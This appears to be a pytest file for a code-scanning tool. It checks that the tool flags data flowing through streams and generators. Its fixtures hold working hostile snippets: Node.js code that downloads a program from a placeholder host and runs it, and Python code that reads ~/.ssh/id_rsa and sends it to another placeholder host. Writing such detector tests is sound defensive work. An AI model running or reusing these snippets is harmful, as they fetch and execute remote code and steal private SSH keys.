"""Deeds in several steps, through streams, generators, descriptors, alphabets: what is led along is still followed."""

import pytest
from reading import package

FETCHED_PROGRAMS = {
    "a pipeline of streams": """const {pipeline} = require('stream'), fs = require('fs'), {spawn} = require('child_process')
const to = require('path').join(require('os').tmpdir(), 'p' + process.pid)
require('https').get('https://dl.example/p', (answer) => {
  pipeline(answer, fs.createWriteStream(to, {mode: 0o755}), () => { spawn(to, []) })
})""",
    "an awaited pipeline": """import {pipeline} from 'node:stream/promises'
import fs from 'node:fs'
import {spawn} from 'node:child_process'
const answer = await fetch('https://dl.example/p')
await pipeline(answer.body, fs.createWriteStream('/tmp/p-x'))
spawn('/tmp/p-x', [])""",
}


@pytest.mark.parametrize("code", FETCHED_PROGRAMS.values(), ids=FETCHED_PROGRAMS.keys())
def test_a_program_that_is_streamed_into_a_file_and_started_came_from_the_network(code: str) -> None:
    assert any(b.startswith("code.flow network > execution @ lib/a.mjs:") and "(import)" in b
               for b in package({"lib/a.mjs": code}))  # fmt: skip


SENT_KEYS = {
    "a generator of records": """import json, urllib.request
from pathlib import Path
PLACES = {"a": ".ssh/id_rsa"}
def records():
    for name, rel in PLACES.items():
        try:
            data = (Path.home() / rel).read_bytes()
        except OSError:
            continue
        yield {"name": name, "value": data.hex()}
urllib.request.urlopen("https://c.example", json.dumps({"a": list(records())}).encode())
""",
    "a generator that is entered": """import contextlib, os, urllib.request
@contextlib.contextmanager
def key():
    with open(os.path.expanduser("~/.ssh/id_rsa")) as file:
        yield file.read()
with key() as text:
    urllib.request.urlopen("https://c.example", text.encode())
""",
}


@pytest.mark.parametrize("code", SENT_KEYS.values(), ids=SENT_KEYS.keys())
def test_a_key_that_is_handed_on_by_a_generator_is_seen_to_leave(code: str) -> None:
    assert any(b.startswith("code.flow file:~/.ssh/id_rsa > network @ pkg/__init__.py:")
               for b in package({"pkg/__init__.py": code}))  # fmt: skip
